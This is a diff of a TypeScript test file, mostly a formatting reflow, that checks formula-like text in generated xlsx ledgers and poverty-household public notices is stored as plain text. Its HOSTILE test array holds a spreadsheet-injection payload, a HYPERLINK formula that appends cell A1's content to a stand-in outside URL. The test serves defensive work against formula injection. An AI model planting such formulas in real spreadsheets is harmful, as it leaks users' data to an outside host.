@@ -23,9 +23,11 @@ const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"点此")', '+1+2',
 function cellsHolding(sheets: readonly ReadSheet[], text: string): { type: string; format: string | null }[] {
   const out: { type: string; format: string | null }[] = [];
   for (const s of sheets) {
-    s.values.forEach((row, r) => row.forEach((v, c) => {
-      if (v === text) out.push({ type: s.data_types[r]![c]!, format: s.number_formats[r]![c] ?? null });
-    }));
+    s.values.forEach((row, r) =>
+      row.forEach((v, c) => {
+        if (v === text) out.push({ type: s.data_types[r]![c]!, format: s.number_formats[r]![c] ?? null });
+      }),
+    );
   }
   return out;
 }
@@ -56,7 +58,18 @@ describe('xlsx writers', () => {
   it('the ledger sheet writer (ledgers, income forms, task ledger): formula-like text is a text cell in the Text format', async () => {
     const file = join(dir, 'sheet.xlsx');
     const wb = openWorkbook(file);
-    const sheet = openSheet(wb, { name: '测试', title: '=标题', columns: [{ header: '姓名', kind: 'text' }, { header: '金额', kind: 'money' }] }, []);
+    const sheet = openSheet(
+      wb,
+      {
+        name: '测试',
+        title: '=标题',
+        columns: [
+          { header: '姓名', kind: 'text' },
+          { header: '金额', kind: 'money' },
+        ],
+      },
+      [],
+    );
     HOSTILE.forEach((t, i) => sheet.addRow([t, -1234.5 - i]));
     sheet.addRow(['张三', -5]);
     sheet.commit();
@@ -91,23 +104,35 @@ describe('xlsx writers', () => {
     }
     for (const s of back.sheets) {
       s.data_types.forEach((row) => expect(row.includes('f'), s.name).toBe(false));
-      s.values.forEach((row, r) => row.forEach((v, c) => {
-        if (typeof v === 'number') expect(s.data_types[r]![c], `${s.name} ${r} ${c}`).toBe('n');
-      }));
+      s.values.forEach((row, r) =>
+        row.forEach((v, c) => {
+          if (typeof v === 'number') expect(s.data_types[r]![c], `${s.name} ${r} ${c}`).toBe('n');
+        }),
+      );
     }
   });
 
   it('the public-notice list: a hostile head name or group is text in the Text format', async () => {
     const file = join(dir, 'notice.xlsx');
-    writeFileSync(file, await noticeWorkbook({
-      title: '贫困户拟退出公示名单', countyName: '示范县', townshipName: '东山镇', villageName: '东山村', start: null, end: null, days: 7,
-      objectionPhone: null, signature: '东山村村民委员会',
-      footer: ['=说明'],
-      rows: [
-        { no: 1, headName: HOSTILE[0]!, group: HOSTILE[3]!, size: 4, classLabel: 'A', attributeLabel: '一般贫困户' },
-        { no: 2, headName: '李四', group: '一组', size: -1, classLabel: 'A', attributeLabel: '低保户' },
-      ],
-    }));
+    writeFileSync(
+      file,
+      await noticeWorkbook({
+        title: '贫困户拟退出公示名单',
+        countyName: '示范县',
+        townshipName: '东山镇',
+        villageName: '东山村',
+        start: null,
+        end: null,
+        days: 7,
+        objectionPhone: null,
+        signature: '东山村村民委员会',
+        footer: ['=说明'],
+        rows: [
+          { no: 1, headName: HOSTILE[0]!, group: HOSTILE[3]!, size: 4, classLabel: 'A', attributeLabel: '一般贫困户' },
+          { no: 2, headName: '李四', group: '一组', size: -1, classLabel: 'A', attributeLabel: '低保户' },
+        ],
+      }),
+    );
     const back = readWithOpenpyxl(file);
     for (const t of [HOSTILE[0]!, HOSTILE[3]!, '=说明']) expect(cellsHolding(back.sheets, t), t).toEqual([{ type: 's', format: '@' }]);
     expect(cellsHolding(back.sheets, '李四')).toEqual([{ type: 's', format: null }]);
